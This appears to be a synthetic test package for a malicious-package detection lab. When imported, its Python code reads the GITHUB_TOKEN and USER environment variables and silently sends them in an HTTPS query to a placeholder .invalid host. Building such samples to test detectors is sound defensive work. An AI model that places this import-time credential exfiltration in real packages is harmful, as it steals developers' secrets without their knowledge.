# SYNTHETIC test package written for slopspotter-lab: a harmless imitation of HTTPS exfiltration.
# It talks only to a reserved .invalid hostname (answered by the sandbox's own sinkhole). Only run in the sandbox.
import os
import urllib.parse
import urllib.request

try:  # import: the GitHub token in the query string of an HTTPS GET
    q = urllib.parse.urlencode({"t": os.environ.get("GITHUB_TOKEN", ""), "u": os.environ.get("USER", "")})
    urllib.request.urlopen("https://hooks.exfil-tls.invalid/import/urllib?" + q, timeout=5).read()
except Exception:
    pass
